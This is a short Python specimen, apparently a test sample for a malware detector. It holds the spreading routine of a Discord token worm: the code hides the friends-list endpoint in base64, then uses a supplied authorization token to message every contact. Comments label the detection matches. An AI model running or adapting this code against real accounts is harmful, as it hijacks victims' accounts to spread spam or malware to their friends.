raise SystemExit("specimen: not to be run")
import base64
import requests

def begin(token, text):
    people = requests.get(base64.b64decode("aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvdjkvdXNlcnMvQG1lL3JlbGF0aW9uc2hpcHM=").decode(), headers={"authorization": token}).json()  # match: hidden-address
    for one in people:
        requests.post("https://discord.com/api/v9/channels/" + one["id"] + "/messages", json={"content": text}, headers={"authorization": token})  # match: sends-itself
